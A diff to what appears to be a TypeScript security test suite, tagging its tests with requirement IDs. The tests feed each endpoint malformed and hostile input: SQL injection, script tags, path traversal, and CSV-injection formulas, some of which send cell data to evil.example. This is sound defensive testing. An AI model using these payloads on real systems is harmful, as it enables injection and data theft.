@@ -80,7 +80,7 @@ describe('bad input on every endpoint', () => {
     ];
   };
 
-  it('answers every malformed request with a 4xx, a code and a message, and leaves the database unchanged', async () => {
+  it('answers every malformed request with a 4xx, a code and a message, and leaves the database unchanged [REL-005]', async () => {
     const endpoints = bodyEndpoints();
     const nasty: unknown[] = [123, -1.5e308, true, null, [], {}, [1, 2], 'x'.repeat(100_000), '😀\u0000\uFFFF\u202E', "' OR 1=1; DROP TABLE users; --", '<script>alert(1)</script>', '../../etc/passwd', { $ne: null }];
     const raws = ['{', '{"a":', '[', 'null', '"text"', '123', '{"a":1}}', '\u0000'];
@@ -124,7 +124,7 @@ describe('bad input on every endpoint', () => {
   /** Spellings no JSON serializer writes but a hostile client can send: substituted into the raw text. */
   const RAW_VALUES = ['1e309', '-1e309', '1e999999', 'NaN', 'Infinity', '-Infinity', '+1', '01', '.5', '1.', '0x10', '[' .repeat(3000) + ']'.repeat(3000), '{"a":'.repeat(1000) + '1' + '}'.repeat(1000)];
 
-  it('a fuzz corpus over every route with a body: 0 5xx, every rejection with a code, database unchanged', async () => {
+  it('a fuzz corpus over every route with a body: 0 5xx, every rejection with a code, database unchanged [REL-005]', async () => {
     const signature = { password: DEMO_PASSWORD };
     const endpoints: Endpoint[] = [
       ...bodyEndpoints().map((ep) => (ep.path === '/api/auth/login' ? { ...ep, body: { username: 'nobody-fuzz', password: 'x' } } : ep.path === '/api/users' && ep.method === 'POST' ? { ...ep, body: { ...ep.body, username: 'fuzzuser2' } } : ep)),
@@ -152,7 +152,7 @@ describe('bad input on every endpoint', () => {
   /** A cell a spreadsheet would run: a formula trigger first, and not a plain number. */
   const liveFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(cell);
 
-  it('OWASP CSV-injection payloads in every free-text field come out of every CSV export as 0 live formulas', async () => {
+  it('OWASP CSV-injection payloads in every free-text field come out of every CSV export as 0 live formulas [EXP-003]', async () => {
     const payloads = [
       "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
       '\t=1+1', '\r=1+1', '-1+1', '+1-1', "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")", '-5e3+cmd', '=1', '@A1',
